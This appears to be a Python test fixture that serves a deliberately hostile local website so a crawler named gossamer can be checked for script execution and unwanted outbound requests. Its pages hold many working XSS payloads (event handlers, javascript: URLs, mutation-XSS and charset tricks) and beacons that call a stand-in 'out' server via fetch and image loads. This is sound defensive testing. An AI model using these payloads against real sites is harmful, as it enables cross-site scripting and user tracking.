"""A web that means harm, on real sockets: every way to run, load, send or lead elsewhere that we know of."""

import socket
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import NamedTuple
from urllib.parse import unquote

import gossamer

_HTML = "text/html; charset=utf-8"
_RAN = (
    "try{{window.ran&&window.ran(location.href)}}catch(e){{}};alert(1);fetch('{out}/ran');"
    "new Image().src='{out}/ran';top.document.title='ran'"
)


class Answer(NamedTuple):
    body: bytes
    kind: str = _HTML
    status: int = 200
    fields: tuple[tuple[str, str], ...] = ()


def pages(out: str, witness: str) -> dict[str, Answer]:
    """What the server has, by path. `out` is another server, which nobody is to be sent to."""
    run = _RAN.format(out=out)
    quoted = run.replace("'", "&#39;")
    img = f"<img src=x onerror=&quot;{quoted}&quot;>"
    markup = {
        "/scripts": f"<script>{run}</script><script src={out}/a.js></script><script src=/own.js></script>"
        f"<ScRiPt>{run}</sCrIpT><script type=module>{run}</script>",
        "/handlers": f'<body onload="{run}" onpageshow="{run}"><img src=x onerror="{run}">'
        f'<input autofocus onfocus="{run}"><details open ontoggle="{run}">x</details>'
        f'<video src=x onerror="{run}"></video><marquee onstart="{run}">m</marquee>'
        f'<p style="animation:a 1s" onanimationstart="{run}">a<style>@keyframes a{{}}</style>',
        "/forms": f'<form id=f action="{out}/form" method=post><input name=a value=b><button>Go</button>'
        f'<input type=submit formaction="{out}/f2"><input type=image src="{out}/i.png"></form>'
        f'<button form=f formaction="javascript:{run}">x</button><script>f.submit()</script>',
        "/frames": f'<iframe src="{out}/frame"></iframe><iframe srcdoc="<script>{quoted}</script>"></iframe>'
        f'<iframe src="javascript:{run}"></iframe><object data="{out}/o"></object><embed src="{out}/e">'
        f'<portal src="{out}/p"></portal><iframe src="data:text/html,<script>{quoted}</script>"></iframe>',
        "/frameset": f'<html><frameset cols="*"><frame src="{out}/frame"></frameset></html>',
        "/refresh": f'<meta http-equiv=refresh content="0;url={out}/refreshed"><p>wait',
        "/refresh-script": f'<meta http-equiv=refresh content="0;url=javascript:{run}"><p>wait',
        "/policy": '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">'
        f'<meta http-equiv=set-cookie content="a=b"><script>{run}</script>',
        "/base": f'<base href="{out}/deep/" target=_top><a href=one>one</a><img src=two.png><p>based',
        "/links": f'<a id=js href="javascript:{run}">js</a> <a id=tab href="java&#9;script:{run}">tab</a>'
        f'<a id=data href="data:text/html,<script>{quoted}</script>">data</a>'
        f'<a id=vb href="vbscript:x">vb</a>'
        f'<a id=out target=_blank ping="{out}/ping" href="{out}/left">out</a>'
        f'<a id=top target=_top href="{out}/top">top</a><a id=own href="/scripts">own</a>'
        f'<map name=m><area href="javascript:{run}" shape=default></map><img usemap=#m src=/pixel.png>',
        "/styles": f"<style>@import '{out}/a.css'; @import url({out}/b.css);"
        f" body{{background:url({out}/c.png)}} p{{background:u\\72l({out}/d.png)}}"
        f' div{{background:image-set("{out}/e.png" 1x)}} @font-face{{font-family:x;src:url({out}/f.woff)}}'
        f" h1{{font-family:x;behavior:url({out}/g.htc)}} @im\\70ort '{out}/h.css';"
        f"</style><link rel=stylesheet href={out}/i.css><link rel=stylesheet href=/own.css>"
        f"<link rel=preload as=image href={out}/j.png><link rel=prefetch href={out}/k>"
        f"<link rel=dns-prefetch href={out}><link rel=icon href={out}/l.ico>"
        f'<h1>x</h1><p style="background:url({out}/m.png)">y<div>z</div>'
        f"<style>p{{}}</style ><script>{run}</script>",
        "/pictures": f'<img src={out}/1.png srcset="{out}/2.png 1x, {out}/3.png 2x"><picture><source srcset='
        f'"{out}/4.png"></picture><img src=/pixel.png alt=pixel>'
        f"<video poster={out}/5.png src={out}/6></video>"
        f"<audio src={out}/7><table background={out}/8.png><tr><td background={out}/9.png>t</table>"
        f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{quoted}'/>\">",
        "/drawing": f'<svg onload="{run}"><script>{run}</script><a xlink:href="javascript:{run}"><text y=20>t'
        f'</text></a><animate onbegin="{run}" attributeName=x dur=1s /><set onbegin="{run}" />'
        f'<use href="{out}/u.svg#a" /><image href="{out}/v.png" /><foreignObject><iframe src="{out}/w">'
        f"</iframe></foreignObject><style>&lt;img src=x onerror={run}&gt;</style></svg>",
        "/mutating": f'<noscript><p title="</noscript>{img}">x</noscript>'
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{img}">'
        f'<svg></p><style><a id="</style>{img}"></svg><template><script>{run}</script></template>'
        f"<textarea></textarea><script>{run}</script></textarea><xmp><img src=x onerror='{run}'></xmp>"
        f"<listing>&lt;img src=x onerror={run}&gt;</listing><!--><img src=x onerror='{run}'>-->",
        "/markup-title": "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
        f'"&gt;&lt;img src=x onerror="{run}"&gt;</title><p>t <a href="/links">{img}<b>words</b></a>',
        "/direction": "<title>\u202egnp.exe\u2066 \u200f\x07 {{7*7}} {% raw %}</title><p>\u202edesrever",
        "/plaintext": f"<p>before<plaintext><script>{run}</script>",
        "/deep": "<div>" * 3000 + f"<script>{run}</script>" + "</div>" * 3000,
        f'/odd"><script>{"alert(1)"}</script>': "<p>odd name",
    }
    files = {
        "/robots.txt": Answer(
            f"User-agent: *\nDisallow: /<script>{run}</script>\n"
            f"# \u202e</pre><script>{run}</script>\n".encode(),
            "text/plain",
        ),
        "/long-title": Answer(b"<title>" + b"<b>x" * 2_500_000 + b"</title><p>long"),
        "/broken": Answer(b"<title>\xff\xfe\x80</title><p>\xc3\x28 \xf0\x9f <b>\x00</b>"),
        "/utf7": Answer(
            b"<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html"
        ),
        "/utf16": Answer(
            f"<p>x<script>{run}</script>".encode("utf-16"), "text/html; charset=utf-16"
        ),
        "/shift": Answer(
            b'<p title="\x81"><img src=x onerror=alert(1)>x', "text/html; charset=shift_jis"
        ),
        "/connecting.svg": Answer(_connecting_drawing(witness).encode(), "image/svg+xml"),
        "/connecting": Answer(
            f'<link rel="preconnect" href="{witness}"><link rel="dns-prefetch" href="{witness}">'
            '<p>c<img src="/connecting.svg">'.encode(),
            fields=(("Link", f"<{witness}>; rel=preconnect"),),
        ),
        "/drawing.svg": Answer(
            f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script>'
            f'<image href="{out}/s.png" width="9" height="9"/></svg>'.encode(),
            "image/svg+xml",
        ),
        "/page.xhtml": Answer(
            f'<html xmlns="http://www.w3.org/1999/xhtml"><body onload="{run}"><script>{run}</script>'
            "<p>x</p></body></html>".encode(),
            "application/xhtml+xml",
        ),
        "/sheet.xml": Answer(
            f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{out}/x.xsl"?>'
            f'<a><s:script xmlns:s="http://www.w3.org/1999/xhtml">{run}</s:script></a>'.encode(),
            "text/xml",
        ),
        "/lie.png": Answer(f"<html><script>{run}</script>".encode(), "image/png"),
        "/lie.txt": Answer(f"<html><script>{run}</script>".encode(), "text/plain"),
        "/own.js": Answer(run.encode(), "text/javascript"),
        "/own.css": Answer(f"@import '{out}/own.css'; p{{color:#123456}}".encode(), "text/css"),
        "/pixel.png": Answer(PIXEL, "image/png"),
        "/header": Answer(
            b"<p>h",
            fields=(
                ("Refresh", f"0;url={out}/by-field"),
                ("Link", f"<{out}/l.css>; rel=stylesheet"),
                ("X-Evil", f"<script>{run}</script>"),
                ("ETag", f'"<img src=x onerror={run}>"'),
                ("Set-Cookie", "gossamer=stolen"),
                ("Content-Security-Policy", "default-src *"),
            ),
        ),
        "/to-script": Answer(b"moved", status=302, fields=(("Location", f"javascript:{run}"),)),
    }
    found = {path: Answer(text.encode()) for path, text in markup.items()} | files
    names = "".join(f'<li><a href="{_attribute(path)}">{path[:9]}</a>' for path in found)
    return {"/": Answer(f"<title>All</title><ul>{names}</ul>".encode()), **found}


def _attribute(path: str) -> str:
    return path.replace("&", "&amp;").replace('"', "%22").replace("<", "%3C").replace(">", "%3E")


PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da6364f8ff"
    "bf1e000584027f3b5d0ae80000000049454e44ae426082"
)


def _connecting_drawing(witness: str) -> str:
    """It asks for nothing: to be connected with is enough to know who looks."""
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="{witness}/a.css"?>'
        f'<!DOCTYPE svg [<!ENTITY far "{witness}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">'
        f'<h:link rel="preconnect" href="{witness}"/><h:link rel="dns-prefetch" href="&far;"/>'
        f'<h:link rel="stylesheet" href="{witness}/b.css"/><style>@import "{witness}/c.css";</style>'
        f'<image xlink:href="{witness}/d.png"/><use href="{witness}/e.svg#a"/>'
        '<linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient>'
        f'<rect width="9" height="9" fill="url(#g)" filter="url({witness}/f.svg#b)"/></svg>'
    )


class HostileWeb(NamedTuple):
    url: str
    out: str
    """Where nobody is to be sent to …"""
    asked: list[str]
    """… and who was, all the same."""
    witness: str
    """A third server …"""
    connected: list[object]
    """… and connections to it, whether anything was asked there or not."""


@contextmanager
def hostile_web() -> Iterator[HostileWeb]:
    """Three servers: the site, the one that it tries to reach, and one that it would connect with."""
    asked: list[str] = []
    with (
        serving_pages(lambda path: Answer(b"got you", "text/html"), asked) as out,
        _counting() as (witness, connected),
    ):
        site = pages(out, witness)
        missing = Answer(b"<p>none", status=404)
        with serving_pages(lambda path: site.get(unquote(path), missing), []) as url:
            yield HostileWeb(url, out, asked, witness, connected)


@contextmanager
def _counting() -> Iterator[tuple[str, list[object]]]:
    """Accepts connections, and ends them at once."""
    connected: list[object] = []
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def accept() -> None:
            while True:
                try:
                    line, address = listening.accept()
                except OSError:  # it is over
                    return
                connected.append(address)
                line.close()

        thread = Thread(target=accept)
        thread.start()
        try:
            yield f"http://127.0.0.1:{listening.getsockname()[1]}", connected
        finally:
            listening.shutdown(socket.SHUT_RDWR)
            thread.join()


@contextmanager
def serving_pages(answer, asked: list[str]) -> Iterator[str]:  # type: ignore[no-untyped-def]
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            found = answer(self.path)
            self.send_response(found.status)
            self.send_header("Content-Type", found.kind)
            self.send_header("Content-Length", str(len(found.body)))
            for name, value in found.fields:
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(found.body)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *said: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def crawl_hostile(web: HostileWeb, out: Path) -> Path:
    """Crawl it for real, with what its pages are made of."""
    gossamer.Crawl(
        f"{web.url}/",
        out=out,
        scope="all",
        delay=0,
        max_depth=2,
        allow_private=True,
        page_requisites=True,
        exclude=(f"^{web.out}/", f"^{web.witness}/"),
    ).run()
    web.asked.clear()
    return out
